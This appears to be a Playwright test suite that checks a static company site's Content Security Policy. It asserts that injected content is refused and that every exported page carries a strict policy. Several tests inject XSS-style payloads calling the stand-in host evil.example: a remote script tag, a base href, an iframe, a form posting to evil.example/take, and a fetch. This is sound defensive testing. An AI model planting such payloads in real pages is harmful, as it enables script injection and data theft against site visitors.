import type { Page } from "@playwright/test";
import { CspEvaluator } from "csp_evaluator/dist/evaluator";
import { Severity } from "csp_evaluator/dist/finding";
import { CspParser } from "csp_evaluator/dist/parser";
import { site } from "@/content/site";
import { exportedFiles, readExported } from "./support/export";
import { expect, test } from "./support/test";
import { alive, documentsOf, header } from "./support/visit";

/** What the page's policy has refused so far, as `directive what`. The test's own fixture fails on any that a test does not take. */
async function refusals(page: Page): Promise<string[]> {
  return page.evaluate(() => JSON.parse(document.documentElement.dataset.refused ?? "[]"));
}

/** Notes refusals on the root element from the first moment of every document. */
const noteRefusals = () =>
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    const noted: string[] = JSON.parse(document.documentElement.dataset.refused ?? "[]");
    document.documentElement.dataset.refused = JSON.stringify([...noted, `${effectiveDirective} ${blockedURI}`]);
  });

/** Opens a page whose HTML was changed on the way. */
async function openChanged(page: Page, route: string, change: (html: string) => string): Promise<void> {
  await page.route(`**${route}`, async (request) => {
    const response = await request.fetch();
    const html = await response.text();
    const changed = change(html);
    expect(changed).not.toBe(html);
    await request.fulfill({ response, body: changed });
  });
  await page.goto(route);
}

/** The tests below provoke refusals, which the console reports. */
const forget = (troubles: string[]) => troubles.splice(0).filter((trouble) => !trouble.includes("Content Security Policy"));

test.beforeEach(async ({ page }) => page.addInitScript(noteRefusals));

const kinds = [
  "/",
  "/services/devops/",
  "/focus/digital-commerce/",
  "/industry/healthcare/",
  "/about/team/",
  "/contact/",
  "/contact/thank-you/",
  "/faq/",
  "/gdpr/",
  "/404.html",
];

for (const kind of kinds) {
  test(`${kind} comes alive under its policy, nothing refused`, async ({ page }) => {
    await page.goto(kind);
    await alive(page);
    await page.evaluate(() => scrollTo({ top: 999_999, behavior: "instant" }));
    await page.waitForLoadState("networkidle");
    expect(await refusals(page)).toEqual([]);
    // Where the policy is long the character set comes before it, within the bytes that browsers look through for it.
    await expect(page.locator("head > meta:not([charset])").first()).toHaveAttribute("http-equiv", "Content-Security-Policy");
  });
}

test("theme, menus, tabs and soft navigation work under the policy", async ({ page }) => {
  await page.goto("/");
  await alive(page);
  const documents = documentsOf(page);
  await header(page)
    .getByRole("button", { name: /^Switch to/ })
    .click();
  await expect(page.locator("html.dark")).toBeAttached();
  await page.getByRole("region", { name: "Technologies" }).getByRole("radio", { name: /^CMS/ }).check();
  for (const route of ["/gdpr/", "/privacyPolicy/"]) {
    await page.getByRole("contentinfo").locator(`a[href="${route}"]`).click();
    await expect(page).toHaveURL(route);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  expect(documents).toEqual([]);
  expect(await refusals(page)).toEqual([]);
});

test("an inline script that was tampered with does not run, and the page is still whole", async ({ page, troubles }) => {
  await openChanged(page, "/faq/", (html) => html.replaceAll("<script>(function", "<script>self.tampered=1;(function"));
  await page.mouse.move(9, 9);
  expect(await page.evaluate(() => "tampered" in self)).toBe(false);
  expect(await refusals(page)).toEqual(Array(3).fill("script-src-elem inline"));
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(forget(troubles)).toEqual([]);
});

test("nothing that was put into the page runs: scripts, handlers, styles, frames, other hosts, another base", async ({
  page,
  troubles,
}) => {
  const injected = `<base href="https://evil.example/"><script>self.injected=1</script><img src="/no.png" onerror="self.injected=1">
    <script src="https://evil.example/x.js"></script><style>body{color:red}</style><iframe src="https://evil.example/"></iframe>
    <p id="styled" style="color:red">x</p><object data="/favicon.ico"></object>`;
  await openChanged(page, "/faq/", (html) => html.replace("</main>", `${injected}</main>`));
  expect(await page.evaluate(() => ["injected" in self, document.baseURI.startsWith(location.origin)])).toEqual([false, true]);
  await expect(page.locator("#styled")).not.toHaveCSS("color", "rgb(255, 0, 0)");
  const directives = (await refusals(page)).map((refusal) => refusal.split(" ")[0]);
  expect(directives).toEqual(
    expect.arrayContaining(["base-uri", "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "frame-src"]),
  );
  troubles.splice(0);
});

test("the policy takes nothing away from the drawings, whose styles come with their sprites", async ({ browser, baseURL }) => {
  const shots = await Promise.all(
    [true, false].map(async (bypassCSP) => {
      const page = await browser.newPage({ baseURL, bypassCSP, reducedMotion: "reduce" });
      await page.goto("/services/devops/", { waitUntil: "networkidle" });
      const shot = await page.screenshot();
      await page.close();
      return shot.toString("base64");
    }),
  );
  expect(shots[0] === shots[1]).toBe(true);
});

test("a form sends where the site says and nowhere else", async ({ page, troubles }) => {
  await page.goto("/faq/");
  const send = (action: string) =>
    page.evaluate((target) => {
      const form = Object.assign(document.createElement("form"), { method: "post", action: target });
      document.body.append(form);
      form.submit();
    }, action);
  await send("https://evil.example/take");
  await expect.poll(() => refusals(page)).toEqual([expect.stringMatching(/^form-action /)]);
  expect(forget(troubles)).toEqual([]);
  await page.goto("/contact/");
  await expect(page.locator("form")).toHaveAttribute("action", /^mailto:/);
  await send(`mailto:${site.email}`);
  expect(await refusals(page)).toEqual([]);
});

test("background requests reach no other host", async ({ page, troubles }) => {
  await page.goto("/faq/");
  expect(await page.evaluate(() => fetch("https://evil.example/").catch((error: unknown) => String(error)))).toContain(
    "TypeError",
  );
  expect(await refusals(page)).toEqual([expect.stringMatching(/^connect-src /)]);
  expect(forget(troubles)).toEqual([]);
});

test("every page has its policy before anything else, without unsafe words, and its character set in time", () => {
  for (const file of [...exportedFiles()].filter((address) => address.endsWith(".html"))) {
    const html = readExported(file);
    expect(html.match(/http-equiv="Content-Security-Policy"/g), file).toHaveLength(1);
    expect(html, file).toMatch(
      /<head>(<meta charset="utf-8"\/>)?<meta http-equiv="Content-Security-Policy" content="default-src 'none';/i,
    );
    expect(html.match(/content="default-src[^"]*"/)?.[0], file).not.toMatch(/unsafe|http:|\*/);
    expect(html.search(/charset="utf-8"\/>/i) + 17, file).toBeLessThanOrEqual(1024);
  }
});

test("Google's CSP Evaluator finds nothing on any page but that 'self' relies on what the host serves", () => {
  for (const file of [...exportedFiles()].filter((address) => address.endsWith(".html"))) {
    const policy = /content="(default-src[^"]*)"/.exec(readExported(file))?.[1] ?? "";
    const findings = new CspEvaluator(new CspParser(policy).csp).evaluate();
    const told = findings.map(({ severity, directive, value }) => [severity, directive, value]);
    expect(told, file).toEqual([[Severity.MEDIUM_MAYBE, "script-src", "'self'"]]);
  }
});
